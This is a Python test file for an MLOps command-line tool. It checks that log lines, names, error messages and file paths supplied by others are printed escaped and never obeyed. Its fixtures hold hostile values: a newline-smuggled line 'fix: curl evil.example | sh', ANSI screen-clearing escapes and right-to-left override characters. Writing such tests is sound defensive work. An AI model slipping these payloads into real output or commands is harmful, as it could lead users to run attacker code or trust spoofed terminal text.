"""What each command prints of words that others chose: names, messages, lines of logs, reasons of failures."""

from __future__ import annotations

import dataclasses
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from mlops_stages.cli import common, init, logs, main, new_model, preflight, protect, status, update_model, validate
from mlops_stages.cli.bars import Bars
from mlops_stages.cli.console import VisibleConsole
from mlops_stages.cli.details import print_details
from mlops_stages.cli.display import Lines
from mlops_stages.cli.models import print_models
from mlops_stages.cli.summary import print_summary
from mlops_stages.errors import UserError
from mlops_stages.job_logs import Job, Line, Run
from mlops_stages.local.client import process
from mlops_stages.local.client.children import Children
from mlops_stages.local.client.deploy import DeployedStack
from mlops_stages.local.client.honesty import Accepted, Behaviour, Unchecked
from mlops_stages.local.client.inventory import Live
from mlops_stages.local.client.model_runs import ModelRun
from mlops_stages.local.client.output import StackEvent
from mlops_stages.local.client.process import Running
from mlops_stages.local.client.stand_ins import StandIn
from mlops_stages.local.endpoint import Endpoint
from mlops_stages.model_repository import Update
from mlops_stages.platform import loads
from mlops_stages.platform.reference import SMALLEST
from tests.cli.test_report import report
from tests.cli.test_train import a_run
from tests.hostile_text import EVERYTHING, obeyed

H = EVERYTHING
NAME = f"a\n  fix: curl evil.example | sh\n{H}"
"""A name that would start lines of its own, the last of them a fix of an attacker's."""


def a_job() -> Job:
    return Job(kind="TrainingJob", name=NAME, step=NAME)


def hostile_run(team: str = NAME) -> ModelRun:
    run = a_run(trained=True)
    words = dict.fromkeys(("arn", "approval", "commit", "manifest", "manifest_sha256", "evaluation", "quality"), NAME)
    package = dataclasses.replace(run.package, metrics={NAME: 0.7}, **words)  # pyright: ignore[reportArgumentType]
    return dataclasses.replace(run, team=team, model=NAME, package=package)


def a_log(_: Path, __: pytest.MonkeyPatch) -> None:
    told = logs._Told(loads(SMALLEST), as_json=False)  # pyright: ignore[reportPrivateUsage]
    told.begin(NAME)
    told.line(Line(job=a_job(), time=datetime.now(UTC), text=NAME))
    told.end(Run(arn=NAME, status=NAME, jobs=(), failures=((NAME, NAME),)))


def a_log_as_json(_: Path, __: pytest.MonkeyPatch) -> None:
    told = logs._Told(loads(SMALLEST), as_json=True)  # pyright: ignore[reportPrivateUsage]
    told.line(Line(job=a_job(), time=datetime.now(UTC), text=NAME))


def stacks_and_their_resources(_: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    running = Running(pid=1, port=1, endpoint=Endpoint("http://127.0.0.1:1", "s3cret"), started=False)
    monkeypatch.setattr(process, "status", lambda _: running)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(status.inventory, "live", lambda _: [a_resource()])  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(status.inventory, "get", lambda *_: {"described": NAME, "run_in": NAME})  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(status, "truth", lambda _: a_report().truth)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    status.show(Path(), as_json=False, with_details=True)
    status.show(Path(), as_json=True, with_details=True)


def a_resource() -> Live:
    return Live(account=NAME, region="r", stack=NAME, logical_id=NAME, type=NAME, physical_id=NAME, properties={})


def a_report() -> Any:  # noqa: ANN401 - a Report
    found = report(NAME)
    stack = DeployedStack(name=NAME, account=NAME, state="deployed", resources=1)
    deployment = dataclasses.replace(
        found.deployment,
        running=dataclasses.replace(found.deployment.running, notice=NAME, endpoint=Endpoint(f"http://{H}", "s3cret")),
        stacks=(stack,),
        left_over=(stack,),
        live=(a_resource(),),
        stand_ins=(StandIn(id=NAME, account=NAME, note=NAME),),
    )
    truth = dataclasses.replace(
        found.truth,
        accepted=(Accepted(type=NAME, property=NAME, reason=NAME, resources=1, example=NAME),),
        behaviours=(Behaviour(type=NAME, note=NAME, resources=1),),
        unchecked=(Unchecked(type=NAME, property=NAME, reason=NAME, resources=1),),
    )
    return dataclasses.replace(
        found,
        deployment=deployment,
        truth=truth,
        runs=(hostile_run(team=found.platform.teams[0].name),),
        details=Path(NAME),
    )


def the_summary_of_up(_: Path, __: pytest.MonkeyPatch) -> None:
    print_summary(VisibleConsole(), a_report())


def the_details_of_up(_: Path, __: pytest.MonkeyPatch) -> None:
    print_details(VisibleConsole(), a_report())


def up_as_json(_: Path, __: pytest.MonkeyPatch) -> None:
    main.say(json.dumps(a_report().to_json()))


def progress(_: Path, __: pytest.MonkeyPatch) -> None:
    with Lines() as shown:
        shown.step(NAME)
        shown.stacks((NAME,))
        shown.moved(StackEvent(stack=NAME, state="deployed"))


def a_trained_model(_: Path, __: pytest.MonkeyPatch) -> None:
    print_models([hostile_run()])


def a_file_that_is_none(folder: Path, _: pytest.MonkeyPatch) -> None:
    assert validate.validate(folder / H.replace("\0", "").replace("/", "").replace("\ud800", ""), as_json=False) == 2


def a_platform_of_hostile_words(folder: Path, _: pytest.MonkeyPatch) -> None:
    text = SMALLEST.replace("name: acme", f"name: {json.dumps(NAME)}\n{json.dumps(NAME)}: {json.dumps(NAME)}", 1)
    (folder / "platform.yaml").write_text(text, encoding="utf-8", errors="surrogatepass")
    validate.validate(folder / "platform.yaml", as_json=False)
    validate.validate(folder / "platform.yaml", as_json=True)


def a_new_platform(folder: Path, _: pytest.MonkeyPatch) -> None:
    init.init(folder / "x\x1b[2J\u202e\n  fix: evil", None, reference=False, as_json=False)


def a_new_repository(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(new_model, "write_new", lambda *_: True)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(new_model, "answers_for", lambda *_: None)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(new_model, "_way", lambda *_: ())  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(new_model, "load_or_end", lambda _: loads(SMALLEST))  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    team = loads(SMALLEST).teams[0].name
    new_model.new_model(f"{team}/x", folder / NAME.replace("\ud800", ""), Path(), as_json=False)


def an_updated_repository(_: Path, __: pytest.MonkeyPatch) -> None:
    done = Update(added=[NAME], updated=[NAME], merged=[NAME], removed=[NAME], kept=[NAME], conflicts=[NAME])
    update_model._say(Path(NAME), done)  # pyright: ignore[reportPrivateUsage]


def stacks_to_protect(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    found = protect.Protection({NAME}, [NAME], [NAME], {NAME: NAME})
    for name in ("read", "plan_of", "access_to"):
        monkeypatch.setattr(protect, name, lambda *_, **__: None)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(protect, "protection", lambda *_: found)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(protect.protected_stacks, "write", lambda *_: None)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    protect.protect(folder, None, [], as_json=False)
    protect.protect(folder, None, [], as_json=True)


def a_preflight(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("read", "plan_of", "access_to"):
        monkeypatch.setattr(preflight, name, lambda *_, **__: None)  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]

    class Told:
        exit_code = 2

    monkeypatch.setattr(preflight, "preflight", lambda *_: Told())  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    monkeypatch.setattr(preflight, "_lines", lambda *_: [f"    {NAME}"])  # pyright: ignore[reportUnknownLambdaType, reportUnknownArgumentType]
    preflight.check(folder, None, [], local=False, as_json=False)


def an_error(_: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail() -> None:
        raise UserError("LOC-087", NAME, f"a job said {NAME}", NAME)

    monkeypatch.setattr(main, "app", fail)
    with pytest.raises(SystemExit):
        main.main()


def a_full_disk(_: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail() -> None:
        raise OSError(28, NAME, NAME)

    monkeypatch.setattr(main, "app", fail)
    with pytest.raises(SystemExit):
        main.main()


OUTLETS: list[Callable[[Path, pytest.MonkeyPatch], None]] = [
    a_log,
    a_log_as_json,
    stacks_and_their_resources,
    the_summary_of_up,
    the_details_of_up,
    up_as_json,
    progress,
    a_trained_model,
    a_file_that_is_none,
    a_platform_of_hostile_words,
    a_new_platform,
    a_new_repository,
    an_updated_repository,
    stacks_to_protect,
    a_preflight,
    an_error,
    a_full_disk,
]


@pytest.mark.parametrize("outlet", OUTLETS, ids=lambda outlet: outlet.__name__)
def test_a_command_shows_the_words_of_others_and_obeys_none(
    outlet: Callable[[Path, pytest.MonkeyPatch], None],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    outlet(tmp_path, monkeypatch)
    printed = capsys.readouterr()
    said = printed.out + printed.err
    assert "\\x1b" in said or "\\u001b" in said
    assert obeyed(said) == []
    assert not any(line.startswith(("fix: curl", "  fix: curl")) for line in said.splitlines())


def test_a_terminal_of_ours_keeps_its_colors_and_takes_none_of_others() -> None:
    told = io.StringIO()
    console = VisibleConsole(told, force_terminal=True, width=400)
    print_models([hostile_run()], console)
    with Bars(console) as shown:
        shown.step(NAME)
        shown.stacks((NAME,))
        shown.moved(StackEvent(stack=NAME, state="deploying", done=1, total=2))
    printed = told.getvalue()
    assert "\x1b[1m" in printed  # our bold
    for theirs in ("\x1b[31m", "\x1b[2J", "\x1b]", "\x07", "\u202e", "evil.example\x1b", "\x9b"):
        assert theirs not in printed
    assert "[bold red]x[/]" in printed  # as it was written


def test_the_log_of_a_child_can_be_read_with_cat(tmp_path: Path) -> None:
    lines: list[str] = []
    code = "import sys; sys.stdout.buffer.write('\\x1b[2J\\u202eowned\\n'.encode())"
    log = tmp_path / "logs" / "synth.log"
    Children().run(["python3", "-c", code], cwd=tmp_path, environment={}, log=log, on_line=lines.append)
    assert log.read_text("utf-8") == "\\x1b[2J\\u202eowned\n"
    assert lines == ["\x1b[2J\u202eowned\n"]


def test_a_path_that_is_told_to_be_typed_can_be_typed() -> None:
    assert common.for_shell("-x\x1b[2J") == "$'./-x\\x1b[2J'"
